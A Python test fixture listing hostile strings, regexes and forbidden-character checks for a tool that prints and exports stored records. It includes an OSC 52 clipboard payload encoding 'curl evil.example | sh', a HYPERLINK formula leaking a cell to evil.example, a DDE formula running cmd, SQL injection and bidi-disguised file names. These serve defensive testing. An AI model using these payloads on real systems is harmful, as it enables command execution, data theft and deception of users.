"""Strings written to break a tool that prints what it stores.

Each one has a name (the test id) and the text. They go into names, e-mails, program
names, reasons, actors, references and file names, then out through every command
and format: nothing of them may reach a terminal as markup or a control sequence, or
a spreadsheet as a formula, and JSON must give them back exactly.
"""

from __future__ import annotations

import re

HOSTILE: dict[str, str] = {
    # rich markup: "[/]" closes nothing and made every command that printed it exit 1.
    "markup-close": "An[/]a",
    "markup-link": "[link=http://evil.example/]click me[/link]",
    "markup-style": "[bold red]URGENT[/bold red]",
    "emoji-code": ":warning: :skull:",
    # terminal control sequences
    "csi-clear": "Zoe\x1b[2J\x1b[H",
    "csi-colour": "\x1b[31mRed\x1b[0m",
    "osc52-clipboard": "Bo\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "osc8-link": "\x1b]8;;http://evil.example/\x1b\\Ana\x1b]8;;\x1b\\",
    "c1-csi": "Cy\x9b2J",
    "c1-osc": "Di\x9d0;title\x9c",
    "bell-backspace": "Eve\x07\x08\x08\x08Bob",
    "carriage-return": "Mallory\rAlice",
    "newline": "Line\nBreak",
    "delete": "Del\x7fta",
    "nul": "Nu\x00ll",
    # bidi and invisible format characters: they reorder or hide what is read
    "bidi-override": "\u202eevil.exe\u202c",
    "bidi-isolate": "\u2066abc\u2069\u2067def\u2069",
    "bidi-marks": "a\u200eb\u200fc\u061cd",
    "zero-width": "a\u200bd\u2060m\ufeffin",
    "line-separator": "para\u2028graph\u2029end",
    # spreadsheet formulas (OWASP CSV injection)
    "formula-hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "formula-plus": "+1",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1)",
    "formula-tab": "\t=1+1",
    "formula-cr": "\r=1+1",
    "formula-dde": "=cmd|' /C calc'!A0",
    "quote-formula": "'=already quoted",
    "quote-quote": "''twice",
    # SQL metacharacters, quotes and backslashes
    "sql-drop": "'; DROP TABLE client;--",
    "sql-like": "100%_off\\",
    "backslash-escape": "back\\x1bslash",
    "quotes": 'O\'Brien "Bob" `tick`',
    # size and scripts
    "very-long": "A" * 10_000,
    "arabic-digits": "١٢٣",
    "devanagari-digits": "१२३",
    "rtl-name": "محمد",
    "combining": "Zalgo\u0301\u0302\u0303\u0304",
    "emoji": "Ana 👩‍⚕️",
}

# E-mails an address check lets through but that are hostile when shown or exported.
HOSTILE_EMAILS: dict[str, str] = {
    "idn": "josé@exämple.org",
    "formula": "=1+1@example.org",
    "plus-tag": "+tag@example.org",
    "minus": "-ana@example.org",
    "at-start": "@@example.org",
    "markup": "[bold]ana[/bold]@example.org",
    "escape": "ana\x1b[2J@example.org",
    "bidi": "gro\u202eup@example.org",
    "sql": "x'or'1'='1@example.org",
}

# What no output for people may contain: ESC, C1 controls (CSI, OSC, ST...), bidi and
# other invisible format characters, NUL, DEL. (Zero-width joiners, U+200C/U+200D, may
# stay where they spell a Persian word or an emoji; the renderer's tests cover them.)
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff]"
)
# An SGR colour/style sequence that rich itself writes on a terminal: the only escape
# sequence allowed in terminal output, and only once stripped can the rest be checked.
SGR = re.compile("\x1b\\[[0-9;]*m")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def forbidden(output: str) -> list[str]:
    """The forbidden characters in `output` (empty when it is clean)."""
    return FORBIDDEN.findall(output)
